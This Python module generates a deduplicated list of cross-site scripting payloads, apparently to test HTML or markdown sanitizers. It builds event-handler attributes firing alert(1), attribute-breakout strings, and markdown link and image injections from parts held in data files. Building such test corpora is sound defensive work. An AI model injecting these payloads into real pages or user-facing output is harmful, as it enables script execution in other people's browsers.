"""Public ways to smuggle something active into a page, as lists of parts and what they make."""

from __future__ import annotations

from pathlib import Path
from typing import Final

_FOLDER: Final = Path(__file__).with_name("payloads")
_TAGS: Final = ("img src=x", "svg", "body", "input autofocus", "video src=x", "details open")
_BREAKS: Final = (
    '" {0} x="',
    "' {0} x='",
    '"><img src=x {0}>',
    "`{0} ",
    "'\"></a><b {0}>",
)


def _parts(name: str) -> list[str]:
    text = (_FOLDER / f"{name}.txt").read_text(encoding="utf-8")
    return [one for one in text.split("\n") if one.strip()]


def payloads() -> tuple[str, ...]:
    """Return every payload once, each on one line."""
    handlers = [f"on{event}=alert(1)" for event in _parts("events")]
    made = [f"<{_TAGS[n % len(_TAGS)]} {handler}>" for n, handler in enumerate(handlers)]
    made += [_BREAKS[n % len(_BREAKS)].format(handler) for n, handler in enumerate(handlers)]
    addresses = list(enumerate(_parts("addresses")))
    made += [f"[words {n}]({address})" for n, address in addresses]
    made += [f"![words {n}]({address})" for n, address in addresses]
    made += [f"<{address}>" for _, address in addresses]
    return tuple(dict.fromkeys([*_parts("elements"), *made, *_parts("words")]))
